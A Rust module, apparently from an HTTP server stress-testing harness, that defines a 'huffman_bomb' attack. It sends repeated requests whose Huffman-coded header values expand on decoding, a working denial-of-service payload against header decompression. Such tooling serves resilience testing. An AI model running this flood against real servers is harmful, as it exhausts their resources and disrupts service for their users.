//! Values in Huffman code whose every byte is more than one letter.

use crate::attacker::{Attack, Attacker};
use crate::wire::Section;

pub(super) const ATTACK: Attack = Attack::new("huffman_bomb", "values that grow by decoding", run).by(2);

fn run(a: &mut Attacker) {
    // Five bits are an a, `00011`: 8 of them in 5 bytes.
    let coded: Vec<u8> = [0x18, 0xc6, 0x31, 0x8c, 0x63].repeat(3_000);
    let get = Section::plain().get(a.kind.hang()).huffman("b", &coded).frame();
    a.storm(|conn, (): &mut ()| {
        while conn.whole_request(&get).is_some() {
            conn.ops += 1;
        }
    });
}
